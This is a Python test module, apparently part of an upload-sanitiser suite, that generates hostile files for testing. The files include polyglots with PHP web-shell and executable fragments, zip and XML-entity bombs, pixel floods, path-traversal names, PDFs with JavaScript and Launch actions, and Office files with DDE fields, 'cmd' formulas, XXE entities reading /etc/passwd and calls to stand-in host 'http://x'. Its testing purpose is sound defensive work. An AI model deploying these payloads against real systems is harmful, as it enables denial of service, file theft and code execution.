"""Hostile files in eight families, seeded: each with what must become of it.

``True`` as verdict: it must be refused. ``False``: it may be kept if nothing active and nothing alien is left.
"""

import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from io import BytesIO
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from tests.uploads import honest

ALIEN = (b"MZ\x90\x00PE", b"<script>alert(1)</script>", b"<?php system($_GET[0]); ?>", b"#!/bin/sh\nid\n", b"\x7fELF")
TRICKS = ("../../../tmp/a", "..\\..\\a", "/etc/a", "C:\\a", "a\x00b", "a\u202efdp", "a\nb", "....//a", "a:b", "‮a")


@dataclass(frozen=True)
class Hostile:
    """A file, its family, and whether nothing but a refusal will do."""

    family: str
    name: str
    content: bytes
    must_be_refused: bool


def _sound(rng: Random) -> tuple[str, bytes]:
    extension = rng.choice(["pdf", "jpg", "png", "docx", "xlsx"])
    makers: dict[str, Callable[[], bytes]] = {
        "pdf": lambda: honest.pdf(rng), "jpg": lambda: honest.picture(rng, "JPEG"),
        "png": lambda: honest.picture(rng, "PNG"), "docx": lambda: honest.docx(rng), "xlsx": lambda: honest.xlsx(rng),
    }  # fmt: skip
    return extension, makers[extension]()


def polyglot(rng: Random) -> Hostile:
    """Another kind of file in front of, behind, or in the seams of a sound one."""
    extension, content = _sound(rng)
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as inside:
        inside.writestr("a.class", rng.choice(ALIEN))
    alien = rng.choice([*ALIEN, archive.getvalue(), honest.pdf(rng)])
    how = rng.randint(0, 2)
    if how == 0:
        both_archives = extension in ("docx", "xlsx") and alien.startswith(b"PK")
        return Hostile("polyglot", f"a.{extension}", alien + content, extension != "pdf" and not both_archives)
    if how == 1 or extension != "pdf":
        return Hostile("polyglot", f"a.{extension}", content + alien, False)
    at = content.index(b"endobj") + 6
    return Hostile("polyglot", "a.pdf", content[:at] + b"\n" + alien + content[at:], False)


def bomb(rng: Random) -> Hostile:
    """An archive that opens into far more than it is: large, many entries, or one that lies about its size."""
    extension, part = rng.choice([("docx", "word/document.xml"), ("xlsx", "xl/workbook.xml")])
    content, how = BytesIO(), rng.randint(0, 3)
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        if how == 0:
            archive.writestr(part, b" " * rng.randint(4, 40) * 1024 * 1024)
        elif how == 1:
            for place in range(rng.randint(2_001, 2_500)):
                archive.writestr(f"word/{place}.xml", "")
        elif how == 2:
            laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
            archive.writestr(part, f'<!DOCTYPE w [<!ENTITY a0 "ha">{laughs}]><w>&a8;</w>')
        else:
            archive.writestr(part, rng.randbytes(4096))
    packed = bytearray(content.getvalue())
    if how == 3:
        at = packed.rindex(b"PK\x01\x02")
        packed[at + 24 : at + 28] = struct.pack("<L", rng.choice([1, 199 * 1024 * 1024, 0xFFFFFFFE]))
    return Hostile("bomb", f"a.{extension}", bytes(packed), True)


def truncated(rng: Random) -> Hostile:
    """Cut in the middle, as a broken transfer leaves it; a PDF that can be mended may be kept."""
    extension, content = _sound(rng)
    return Hostile(
        "truncated", f"a.{extension}", content[: len(content) * rng.randint(5, 90) // 100], extension != "pdf"
    )


def double_extension(rng: Random) -> Hostile:
    """A name that means to be read as another kind."""
    extension, content = _sound(rng)
    last = rng.choice(
        ["exe", "js", "html", "svg", "docm", "xlsm", "bat", "pdf ", "pdf.", "zip", "php", "lnk", "scr", ""]
    )
    other = rng.choice(["pdf", "docx", "png"])
    if last.strip(" .") in ("pdf", ""):  # Windows drops what stands behind: judged as what is left
        judged = last.strip(" .") or other
        return Hostile("double_extension", f"a.{other}.{last}", content, extension != judged)
    if rng.random() < 0.3:
        wrong = rng.choice([one for one in ("pdf", "jpg", "png", "docx", "xlsx") if one != extension])
        return Hostile("double_extension", f"khen.{last or 'docm'}.{wrong}", content, True)
    return Hostile("double_extension", f"a.{other}.{last}", content, True)


def path_trick(rng: Random) -> Hostile:
    """A name that leads elsewhere, of the file or of an entry in it."""
    trick = rng.choice(TRICKS) + str(rng.randint(0, 999))
    if rng.random() < 0.4:
        extension, content = _sound(rng)
        return Hostile("path_trick", f"{trick}.{extension}", content, False)
    names = [trick + ".xml", rng.choice(["word/document.xml", "Word/Document.XML"])]
    return Hostile("path_trick", "a.docx", _added(honest.docx(rng), {rng.choice(names): b"<w/>"}), True)


def flood(rng: Random) -> Hostile:
    """A picture of few bytes and very many points."""
    width, height = rng.randint(7_000, 60_000), rng.randint(7_000, 60_000)
    header = struct.pack(">LLBBBBB", width, height, rng.choice([1, 8]), 0, 0, 0, 0)
    rows = zlib.compress(bytes(1_000_000), 9)
    chunks = [(b"IHDR", header), (b"IDAT", rows), (b"IEND", b"")]
    content = b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data)) for kind, data in chunks
    )
    if rng.random() < 0.3:
        saved = BytesIO()
        Image.new("L", (8, 8)).save(saved, "JPEG")
        frame = saved.getvalue()
        at = frame.index(b"\xff\xc0") + 5
        return Hostile("flood", "a.jpg", frame[:at] + struct.pack(">HH", height, width) + frame[at + 4 :], True)
    return Hostile("flood", "a.png", content, True)


def acting_pdf(rng: Random) -> Hostile:
    """A PDF that runs, sends, opens, plays or carries something, in one of the places where that may stand."""
    content = BytesIO()
    with pikepdf.open(BytesIO(honest.pdf(rng))) as document:
        rng.choice(_PLANTS)(rng, document)
        locked = pikepdf.Encryption(owner="a", user=rng.choice(["", "b"])) if rng.random() < 0.1 else False
        streams = rng.choice([pikepdf.ObjectStreamMode.generate, pikepdf.ObjectStreamMode.disable])
        with warnings.catch_warnings(action="ignore"):
            document.save(content, encryption=locked, object_stream_mode=streams)
    return Hostile("acting_pdf", "a.pdf", content.getvalue(), bool(locked))


def _action(rng: Random) -> Dictionary:
    kind = rng.choice(["JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition", "Movie",
                       "Sound", "RichMediaExecute", "Hide", "ResetForm", "URI"])  # fmt: skip
    action = Dictionary(S=Name(f"/{kind}"))
    if kind == "JavaScript":
        action.JS = String("app.launchURL('http://x')")
    elif kind == "URI":
        action.URI = String(rng.choice(["javascript:alert(1)", "file:///etc/passwd", "\\\\may\\c$", "//may/c"]))
    else:
        action.F = Dictionary(Type=Name.Filespec, F=String(rng.choice(["cmd.exe", "\\\\may\\c$\\a", "http://x/a"])))
    return action


def _plant_open(rng: Random, document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = rng.choice([lambda one: one, document.make_indirect])(_action(rng))


def _plant_additional(rng: Random, document: pikepdf.Pdf) -> None:
    where = rng.choice([document.Root, document.pages[0].obj])
    where.AA = Dictionary(O=_action(rng), WC=_action(rng))


def _plant_annotation(rng: Random, document: pikepdf.Pdf) -> None:
    kind = rng.choice(["Link", "Widget", "Screen", "Movie", "Sound", "RichMedia", "FileAttachment", "3D"])
    mark = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 99, 99], A=_action(rng))
    document.pages[0].obj.Annots = Array([rng.choice([lambda one: one, document.make_indirect])(mark)])


def _plant_names(rng: Random, document: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), document.make_indirect(script)])))


def _plant_file(rng: Random, document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = rng.choice(ALIEN)
    if rng.random() < 0.3:
        document.Root.Collection = Dictionary(Type=Name.Collection)


def _plant_form(rng: Random, document: pikepdf.Pdf) -> None:
    data = document.make_stream(b"<xdp><script>x</script></xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=data)


def _plant_chain(rng: Random, document: pikepdf.Pdf) -> None:
    step = _action(rng)
    for _ in range(rng.randint(1, 4)):
        step = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([step]))
    document.Root.OpenAction = step


def _plant_loose(rng: Random, document: pikepdf.Pdf) -> None:
    document.Root.PieceInfo = Dictionary(A=Array([Array([_action(rng)]), document.make_indirect(_action(rng))]))
    document.Root.OpenAction = _action(rng)


def _plant_outside_stream(rng: Random, document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.stream_dict.F = String("http://x/a")
    document.pages[0].obj.Contents = stream


_PLANTS = (
    _plant_open, _plant_additional, _plant_annotation, _plant_names, _plant_file, _plant_form, _plant_chain,
    _plant_loose, _plant_outside_stream,
)  # fmt: skip


def acting_office(rng: Random) -> Hostile:
    """A .docx or .xlsx with macros, embedded things, links that lead out, or entities of its own."""
    word = rng.random() < 0.6
    extension = "docx" if word else "xlsx"
    content = honest.docx(rng) if word else honest.xlsx(rng)
    return Hostile("acting_office", f"a.{extension}", rng.choice(_OFFICE)(rng, content, "word" if word else "xl"), True)


def _added(content: bytes, more: dict[str, bytes], change: Callable[[str, bytes], bytes] | None = None) -> bytes:
    """The archive with some parts changed and some more."""
    packed = BytesIO()
    with (
        warnings.catch_warnings(action="ignore"),  # the same name twice is meant
        zipfile.ZipFile(BytesIO(content)) as old,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for entry in old.infolist():
            part = old.read(entry)
            new.writestr(entry.filename, change(entry.filename, part) if change else part)
        for name, part in more.items():
            new.writestr(name, part)
    return packed.getvalue()


def _with_part(names: tuple[str, ...]) -> Callable[[Random, bytes, str], bytes]:
    return lambda rng, content, folder: _added(content, {rng.choice(names).format(folder): rng.randbytes(64)})


_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _linked(rng: Random, content: bytes, folder: str) -> bytes:
    kind = rng.choice(
        ["attachedTemplate", "image", "oleObject", "externalLinkPath", "frame", "subDocument", "hyperlink"]
    )
    target = rng.choice(["file:///c:/a", "\\\\may\\c$", "javascript:x", "a.dotm", "ftp://x/a"])
    if kind != "hyperlink":
        target = rng.choice([target, "http://x/a.dotm", "https://x/a.png"])
    rel = f'<Relationship Id="x" Type="{_RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/>'
    whole = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rel}</Relationships>'
    return _added(content, {f"{folder}/_rels/more{rng.randint(1, 9)}.xml.rels": whole.encode()})


def _fielded(rng: Random, content: bytes, folder: str) -> bytes:
    """A field cut into pieces, or a formula that calls."""
    if folder == "xl":
        formula = rng.choice(["cmd|'/c calc'!A0", 'WEBSERVICE("http://x")', 'RTD("a","","b")', 'CALL("kernel32","a")'])
        sheet = f"<worksheet><sheetData><row><c><f>{formula.replace('&', '')}</f></c></row></sheetData></worksheet>"
        return _added(content, {"xl/worksheets/more.xml": sheet.encode()})
    text = rng.choice(
        ['DDEAUTO c:\\a "b"', "DDE cmd", "INCLUDETEXT http://x", "INCLUDEPICTURE http://x", "LINK Excel a"]
    )
    cut = 0 if text.startswith("LINK") else rng.randint(0, 5)
    pieces = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in (text[:cut], text[cut:]) if one)
    if rng.random() < 0.3:
        pieces = f'<w:fldSimple w:instr="{text.replace(chr(34), "")}"/>'
    part = f'<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{pieces}</w:p>'
    return _added(content, {f"word/more{rng.randint(1, 9)}.xml": part.encode()})


def _declared(rng: Random, content: bytes, folder: str) -> bytes:
    declared = rng.choice(['<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>', '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
                           '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://x">%b;]><a/>'])  # fmt: skip
    return _added(content, {f"customXml/item{rng.randint(1, 9)}.xml": declared.encode(rng.choice(["utf-8", "utf-16"]))})


def _retyped(rng: Random, content: bytes, folder: str) -> bytes:
    other = rng.choice([b"application/vnd.ms-word.document.macroEnabled.main+xml", b"text/html",
                        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                        b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
                        ])  # fmt: skip

    def change(name: str, part: bytes) -> bytes:
        for plain in (b"wordprocessingml.document.main+xml", b"spreadsheetml.sheet.main+xml"):
            part = part.replace(b"application/vnd.openxmlformats-officedocument." + plain, other)
        return part

    return _added(content, {}, lambda name, part: change(name, part) if name == "[Content_Types].xml" else part)


def _locked(rng: Random, content: bytes, folder: str) -> bytes:
    """Entries marked as encrypted, in the archive's list and before the entry."""
    locked = bytearray(content)
    locked[6] |= 1
    at = locked.index(b"PK\x01\x02")
    locked[at + 8] |= 1
    return bytes(locked)


def _twice(rng: Random, content: bytes, folder: str) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        name = rng.choice([entry for entry in archive.namelist() if entry.lower() != entry.upper()])
    return _added(content, {rng.choice([name.upper(), name.lower(), name.swapcase()]): b"<w/>"})


_OFFICE: tuple[Callable[[Random, bytes, str], bytes], ...] = (
    _with_part(("{}/vbaProject.bin", "{}/VBAPROJECT.BIN", "a/vbaData.xml", "{}/macrosheets/sheet1.xml")),
    _with_part(("{}/activeX/activeX1.xml", "{}/activeX/activeX1.bin", "{}/embeddings/ole1.bin", "a.exe", "a.bin")),
    _with_part(("{}/embeddings/Sheet1.xlsx", "{}/afchunk.mht", "{}/externalLinks/link1.xml", "xl/connections.xml")),
    _linked, _linked, _fielded, _declared, _retyped, _locked, _twice,
)  # fmt: skip
FAMILIES = (polyglot, bomb, truncated, double_extension, path_trick, flood, acting_pdf, acting_office)


def hostile(seed: int, count: int) -> Iterator[Hostile]:
    """*count* hostile files, the families in turn, the same for the same seed."""
    rng = Random(seed)
    for place in range(count):
        yield FAMILIES[place % len(FAMILIES)](rng)
